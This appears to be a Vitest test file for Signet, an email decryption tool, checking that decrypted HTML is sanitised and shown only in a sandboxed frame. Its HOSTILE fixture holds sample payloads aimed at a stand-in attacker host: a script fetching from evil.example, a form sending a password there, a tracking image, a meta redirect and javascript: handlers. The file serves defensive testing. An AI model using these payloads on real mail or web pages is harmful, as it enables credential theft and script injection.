// @vitest-environment happy-dom
/**
 * What Signet decrypted, as the report shows it (src/ui/components/DecryptedBody.tsx,
 * src/ui/sanitize-html.ts): text stays text; hostile HTML reaches only a sandboxed frame, with
 * nothing of it that runs, loads, submits or styles.
 */
import { render } from "preact";
import { act } from "preact/test-utils";
import { afterEach, describe, expect, it, vi } from "vitest";
import { DecryptedBody } from "../../src/ui/components/DecryptedBody.js";
import { sandboxDocument, sanitizeHtml } from "../../src/ui/sanitize-html.js";
import { EN_CATALOGUE, ReportView, UiContext } from "../../src/ui/index.js";
import { inspectMessage } from "../../src/core/index.js";
import { OpensslPki } from "../helpers/pki.js";

let container: HTMLElement;
afterEach(() => {
  render(null, container);
  document.body.replaceChildren();
});

async function mount(body: { kind: "text" | "html"; body: string; truncated: boolean; mimePath: string }): Promise<HTMLElement> {
  container = document.createElement("div");
  document.body.append(container);
  await act(() => render(<UiContext.Provider value={{ catalogue: EN_CATALOGUE }}><DecryptedBody body={body} /></UiContext.Provider>, container));
  return container;
}

const HOSTILE = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><style>body{position:fixed}</style><base href="https://evil.example/"></head>
<body onload="alert(1)"><p style="position:fixed;top:0">Dear Bob,</p><script>fetch("https://evil.example/x")</script>
<img src="https://evil.example/track.gif" alt="logo"><a href="javascript:alert(2)" onclick="x()">click</a> <a href="https://bank.example/login">your bank</a>
<form action="https://evil.example/steal"><input name="pw" value="secret"><button>Send</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="alert(3)"><circle r="5"/></svg><object data="https://evil.example/x.swf"></object>
<table><tr><td colspan="2" style="color:red">Pay <b>100</b> EUR</td></tr></table><custom-tag>kept words</custom-tag></body></html>`;

describe("the decrypted body", () => {
  it("text is shown as text: markup in it is not interpreted", async () => {
    const c = await mount({ kind: "text", body: "Hello <b>Bob</b>\n<script>alert(1)</script>", truncated: false, mimePath: "L0:" });
    expect(c.querySelector("pre")?.textContent).toBe("Hello <b>Bob</b>\n<script>alert(1)</script>");
    expect(c.querySelector("b, script, iframe")).toBeNull();
  });

  it("HTML is sanitised: no script, style, form, frame, object, svg, meta, link, base, image, event handler or URL survives; the words do", () => {
    const clean = sanitizeHtml(HOSTILE);
    for (const gone of ["<script", "<style", "<form", "<input", "<button", "<iframe", "<svg", "<object", "<meta", "<link", "<base", "<img", "onload", "onclick", "style=", "href=", "src=", "javascript:", "fetch(", "position:fixed"]) {
      expect([gone, clean.toLowerCase().includes(gone.toLowerCase())]).toEqual([gone, false]);
    }
    for (const kept of ["Dear Bob,", "click", "your bank", "Pay <b>100</b> EUR", 'colspan="2"', "[logo]", "kept words"]) expect([kept, clean.includes(kept)]).toEqual([kept, true]);
    // A link's target is shown as its title, never followed.
    expect(clean).toContain('title="https://bank.example/login"');
  });

  it("HTML reaches the page only as a sandboxed frame that may run nothing and load nothing", async () => {
    const c = await mount({ kind: "html", body: HOSTILE, truncated: true, mimePath: "L0:1" });
    const frame = c.querySelector("iframe")!;
    expect(frame.getAttribute("sandbox")).toBe("");
    expect(frame.getAttribute("referrerpolicy")).toBe("no-referrer");
    const doc = frame.getAttribute("srcdoc")!;
    expect(doc).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
    expect(doc.includes("evil.example")).toBe(false);
    expect(c.querySelector("script, form, style:not(.signet style)")).toBeNull();
    expect(c.textContent).toContain("Only the first megabyte is shown.");
    expect(sandboxDocument("<p>x</p>")).toMatch(/^<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"/);
  });

  it("a part opened on the reader's request is shown as a separate, foreign piece", async () => {
    const c = await (async () => {
      container = document.createElement("div");
      document.body.append(container);
      await act(() => render(<UiContext.Provider value={{ catalogue: EN_CATALOGUE }}><DecryptedBody body={{ kind: "text", body: "old text", truncated: false, mimePath: "L0:" }} foreign /></UiContext.Provider>, container));
      return container;
    })();
    expect(c.querySelector(".decrypted-body.foreign .foreign-note")?.textContent).toBe(
      "A separate piece, decrypted because you asked: it is not this message's own text and may come from someone else. Do not quote it back without checking.",
    );
  });

  it("an encrypted part beside other content gets a warning and a button only the reader can press; the button names the part", async () => {
    const pki = new OpensslPki();
    try {
      const ca = pki.makeCa("PartCA");
      const bob = pki.makeLeaf("part-bob", ca, { sanEmails: ["bob@example.org"] });
      pki.write("in.eml", "Content-Type: text/plain\r\n\r\nold secret\r\n");
      pki.run(["cms", "-encrypt", "-aes256", "-in", "in.eml", "-out", "enc.eml", bob.cert]);
      const part = pki.read("enc.eml").toString("latin1");
      const message = `From: eve@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nWhat did you mean by this?\r\n--b\r\n${part}\r\n--b--\r\n`;
      const report = await inspectMessage(new TextEncoder().encode(message), { clock: { now: () => new Date() } });
      const openPart = vi.fn();
      container = document.createElement("div");
      document.body.append(container);
      await act(() => render(<UiContext.Provider value={{ catalogue: EN_CATALOGUE, openPart }}><ReportView report={report} pending={false} /></UiContext.Provider>, container));
      expect(container.querySelector(".open-part p")?.textContent).toMatch(/^This encrypted part sits beside other content, so Signet did not open it\./);
      await act(() => container.querySelector<HTMLButtonElement>(".open-part button")!.click());
      expect(openPart).toHaveBeenCalledWith("2");
      // Without the host's action there is no button to press.
      render(null, container);
      await act(() => render(<UiContext.Provider value={{ catalogue: EN_CATALOGUE }}><ReportView report={report} pending={false} /></UiContext.Provider>, container));
      expect(container.querySelector(".open-part")).toBeNull();
    } finally {
      pki.cleanup();
    }
  });
});

